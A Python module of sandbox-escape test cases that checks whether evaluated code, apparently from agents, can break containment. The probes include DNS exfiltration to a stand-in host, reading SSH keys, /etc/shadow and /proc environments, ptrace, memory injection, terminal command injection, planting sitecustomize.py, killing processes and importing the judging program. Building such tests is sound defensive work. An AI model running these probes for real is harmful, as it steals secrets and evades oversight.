"""Out of the sandbox: network, files, keys, other processes, the kernel.

Placeholders in capitals stand for decoys that the runner puts up on the host.
"""

from .case import Escape

CRASH = ("0", "crash")

REACHING = (
    Escape(
        "tcp",
        "connect to a server of the host",
        """
import socket
try:
    socket.create_connection(("127.0.0.1", @PORT@), timeout=1)
    return 1
except OSError:
    return 0
""",
    ),
    Escape(
        "udp",
        "send a datagram to a server of the host",
        """
import socket
try:
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"word", ("127.0.0.1", @UDP@))
    return 0  # the decoy tells whether it arrived
except OSError:
    return 0
""",
    ),
    Escape(
        "unix_socket",
        "connect to a service by its socket file",
        """
import socket
try:
    socket.socket(socket.AF_UNIX).connect(@SOCKET@)
    return 1
except OSError:
    return 0
""",
    ),
    Escape(
        "abstract_socket",
        "connect to a service by an abstract name",
        """
import socket
try:
    socket.socket(socket.AF_UNIX).connect("\\0" + @ABSTRACT@)
    return 1
except OSError:
    return 0
""",
    ),
    Escape(
        "dns",
        "carry a secret out in a name that is looked up",
        """
import socket
try:
    socket.getaddrinfo("secret.example.com", 80)
    return 1
except OSError:
    return 0
""",
    ),
    Escape(
        "vsock_and_friends",
        "open sockets that no network namespace confines",
        """
import socket
opened = 0
for family in (socket.AF_INET, socket.AF_INET6, socket.AF_VSOCK, socket.AF_NETLINK, 38, 17):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW, socket.SOCK_SEQPACKET):
        try:
            socket.socket(family, kind)
            opened = 1
        except OSError:
            pass
return opened
""",
    ),
    Escape(
        "files",
        "read files of the user, of the repository and of the run",
        """
import os
for path in (@HOME@ + "/.ssh", @SECRET@, @REPOSITORY@ + "/.git", @REPOSITORY@ + "/pyproject.toml",
             @REPOSITORY@ + "/agents/judging.py", @REPOSITORY@ + "/runs"):
    if os.path.exists(path):
        return 1
return 0
""",
    ),
    Escape(
        "system_configuration",
        "read what the machine is and who uses it",
        """
import os
for path in ("/etc/shadow", "/etc/passwd", "/etc/hosts", "/root", "/home", "/var", "/run", "/mnt",
             "/opt", "/srv", "/sys", "/boot", "/proc"):
    if os.path.isfile(path):
        return 1
    if os.path.isdir(path) and not any(shown.startswith(path + "/") for shown in @SHOWN@):
        return 1
return 0
""",
        shown_by=("docker",),
    ),
    Escape(
        "walk",
        "find a secret anywhere in the file system",
        """
import os
name = os.path.basename(@SECRET@)
for folder, folders, files in os.walk("/"):
    if folder == "/":
        folders[:] = [f for f in folders if f not in ("usr", "lib", "lib64", "bin", "sbin")]
    if name in files:
        return 1
return 0
""",
    ),
    Escape(
        "symlink",
        "make a link in the scratch folder to a file outside and read through it",
        """
import os
try:
    os.symlink(@SECRET@, "link")
    return float(bool(open("link").read()))
except OSError:
    return 0
""",
    ),
    Escape(
        "dot_dot",
        "walk upwards from every descriptor that is open",
        """
import os
for descriptor in range(1024):
    try:
        os.fchdir(descriptor)
        return 1
    except OSError:
        pass
for start in (".", os.sep):
    for depth in range(20):
        if os.path.exists(start + "/.." * depth + @SECRET@):
            return 1
return 0
""",
    ),
    Escape(
        "environment",
        "read keys from the environment",
        """
import os
return float(any("ACDC_DECOY" in name or "xyzzy" in text for name, text in os.environ.items()))
""",
    ),
    Escape(
        "environment_in_memory",
        "read keys from the memory of this process, where an environment once stood",
        """
import ctypes
environ = ctypes.POINTER(ctypes.c_char_p).in_dll(ctypes.CDLL(None), "environ")
number = 0
while environ[number]:
    if b"xyzzy" in environ[number]:
        return 1
    number += 1
return 0
""",
    ),
    Escape(
        "proc",
        "read environments, memory and files of other processes by way of /proc",
        """
import glob, os
for path in ("/proc/1/environ", "/proc/1/mem", "/proc/1/maps", "/proc/kcore", "/proc/kmsg",
             "/proc/1/root" + @SECRET@, "/proc/self/root" + @SECRET@, "/proc/1/cwd/x"):
    try:
        open(path, "rb").read(1)
        return 1
    except OSError:
        pass
for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline"):
    try:
        if b"xyzzy" in open(path, "rb").read():
            return 1
    except OSError:
        pass
return float(os.path.exists("/proc/@VICTIM@"))
""",
    ),
    Escape(
        "mount_proc",
        "mount what is not there",
        """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
os.mkdir("here")
for source, kind in ((b"proc", b"proc"), (b"tmpfs", b"tmpfs"), (b"sysfs", b"sysfs")):
    if libc.mount(source, b"here", kind, 0, None) == 0:
        return 1
return float(libc.mount(b"/", b"here", None, 4096, None) == 0)
""",
    ),
    Escape(
        "namespaces",
        "become root in namespaces of one's own",
        """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
for flag in (0x10000000, 0x00020000, 0x40000000, 0x20000000, 0x10020000, 0x02000000):
    if libc.unshare(flag) == 0:
        return 1
    if libc.syscall(56, flag | 17, 0, 0, 0, 0) == 0:
        return 1
return 0
""",
    ),
    Escape(
        "chroot",
        "leave by chroot, the classic way",
        """
import os
for leave in (lambda: os.chroot("."), lambda: os.chroot("/")):
    try:
        leave()
        return 1
    except OSError:
        pass
return 0
""",
    ),
    Escape(
        "users",
        "become another user",
        """
import os
for change in (lambda: os.setuid(0), lambda: os.setgid(0), lambda: os.setresuid(0, 0, 0),
               lambda: os.setgroups([0]), lambda: os.setreuid(1, 1), lambda: os.chown(".", 0, 0)):
    try:
        change()
        return float(os.getuid() == 0 or os.getgid() == 0)
    except OSError:
        pass
return float(os.getuid() == 0)
""",
    ),
    Escape(
        "setuid_programs",
        "run a program that is root's, or any other",
        """
import os, subprocess
for program in ("/usr/bin/su", "/bin/mount", "/usr/bin/passwd", "/bin/ls", "/usr/bin/env"):
    for run in (lambda: subprocess.run([program], timeout=5),
                lambda: os.posix_spawn(program, [program], {}),
                lambda: os.execv(program, [program])):
        try:
            run()
            return 1
        except OSError:
            pass
return float(os.system("true") == 0)
""",
    ),
    Escape(
        "ptrace",
        "trace and change the process that forked us",
        """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
for request in (16, 0x4206):
    for pid in range(1, 64):
        if libc.ptrace(request, pid, 0, 0) == 0:
            return 1
return 0
""",
    ),
    Escape(
        "foreign_memory",
        "write into the memory of the process that forked us",
        """
import ctypes
class Part(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
libc = ctypes.CDLL(None, use_errno=True)
text = ctypes.create_string_buffer(b"x" * 8)
mine = Part(ctypes.addressof(text), 8)
for pid in (1, 2, 3):
    for call in (libc.process_vm_readv, libc.process_vm_writev):
        if call(pid, ctypes.byref(mine), 1, ctypes.byref(Part(id(int), 8)), 1, 0) > 0:
            if pid != __import__("os").getpid():
                return 1
return 0
""",
    ),
    Escape(
        "descriptors_of_others",
        "take descriptors out of the process that forked us",
        """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
pidfd = os.pidfd_open(1)
return float(any(libc.syscall(438, pidfd, number, 0) >= 0 for number in range(16)))
""",
    ),
    Escape(
        "signals",
        "kill the guest, and everything else",
        """
import os, signal
if os.getppid() != 1:
    raise RuntimeError("no process namespace: not sent, lest it arrive")
for target in (1, -1, os.getppid(), @VICTIM@, -@VICTIM@):
    for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM, signal.SIGINT, signal.SIGSEGV):
        try:
            os.kill(target, number)
        except OSError:
            pass
return 0
""",
        outcomes=("0", "memory"),
    ),
    Escape(
        "our_packages",
        "import the program that judges",
        """
for name in ("agents", "agents.judge.examiner", "memory", "memory.store", "console", "evolution"):
    try:
        __import__(name)
        return 1
    except ImportError:
        pass
return 0
""",
    ),
    Escape(
        "interpreter",
        "leave code in the interpreter that others will run",
        """
import os, site, sys
import json
folders = {os.path.dirname(os.__file__), os.path.dirname(json.__file__), sys.prefix,
           *site.getsitepackages(), *(p for p in sys.path if os.path.isdir(p))}
for folder in folders:
    for name in ("evil.pth", "sitecustomize.py", "__pycache__/json.cpython-311.pyc"):
        try:
            open(os.path.join(folder, name), "w").write("import os")
            return 1
        except OSError:
            pass
return 0
""",
    ),
    Escape(
        "system_files",
        "write, rename and remove files of the system",
        """
import os
for change in (lambda: open("/usr/evil", "w"), lambda: os.rename("/usr/bin", "/usr/nib"),
               lambda: os.unlink("/usr/bin/env"), lambda: os.mkdir("/evil"),
               lambda: os.chmod("/usr/bin/env", 0o777), lambda: os.mknod("disk", 0o60666, 2048),
               lambda: open("/dev/sda"), lambda: open("/dev/mem"), lambda: open("/dev/kmsg")):
    try:
        change()
        return 1
    except OSError:
        pass
return 0
""",
    ),
    Escape(
        "clock",
        "change the clock or the name of the machine",
        """
import ctypes, socket, time
libc = ctypes.CDLL(None, use_errno=True)
try:
    time.clock_settime(time.CLOCK_REALTIME, 0)
    return 1
except OSError:
    pass
return float(libc.sethostname(b"evil", 4) == 0)
""",
    ),
    Escape(
        "kernel",
        "reach the parts of the kernel that break-outs are made of",
        """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
page = ctypes.create_string_buffer(4096)
# bpf, perf_event_open, io_uring_setup, userfaultfd, init_module, kexec_load, add_key,
# open_by_handle_at, fanotify_init, memfd_create, reboot, syslog, swapon (x86-64)
calls = {321: (0, page, 120), 298: (page, 0, -1, -1, 0), 425: (1, page), 323: (1,),
         175: (page, 0, page), 246: (0, 0, 0, 0), 304: (-100, page, 0), 300: (0, 0),
         319: (b"m", 0), 169: (1, 2, 3), 103: (3, page, 4096), 167: (b"x", 0)}
import platform
if platform.machine() != "x86_64":
    return 0
return float(any(libc.syscall(number, *args) >= 0 for number, args in calls.items()))
""",
    ),
    Escape(
        "terminal",
        "type a command into the terminal of whoever started the run",
        """
import fcntl, os, termios
for descriptor in range(64):
    try:
        fcntl.ioctl(descriptor, termios.TIOCSTI, b"x")
        return 1
    except OSError:
        pass
try:
    os.open("/dev/tty", os.O_RDWR)
    return 1
except OSError:
    return 0
""",
    ),
)
